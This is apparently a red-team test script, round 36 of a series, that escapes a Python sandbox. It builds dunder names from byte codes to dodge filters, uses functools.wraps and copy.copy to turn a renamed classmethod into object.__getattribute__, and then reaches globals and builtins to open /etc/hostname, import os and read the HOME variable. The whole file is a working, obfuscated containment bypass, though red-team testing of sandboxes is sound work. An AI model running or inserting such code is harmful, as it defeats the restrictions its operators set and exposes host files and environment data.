# family: red team, round 36 (copy.copy of a bound classmethod renamed "__getattribute__" by functools.wraps from a NewType)
import copy
import functools
import typing


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


def renamed(source):
    def apply(fn):
        return functools.wraps(source)(fn)

    return apply


LOOKUP = typing.NewType(dunder("getattribute"), int)


class Box:
    @classmethod
    @renamed(LOOKUP)
    def lookup(cls):
        return 1


def main():
    # copy.copy(bound method) rebuilds it as getattr(Box, lookup.__name__): object.__getattribute__
    fetch = copy.copy(Box.lookup)
    namespace = fetch(main, dunder("globals"))
    print(namespace["copy"])
    builtins = namespace[dunder("builtins")]
    opener = fetch(builtins, "open")
    print(opener("/etc/hostname").read())
    system = fetch(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
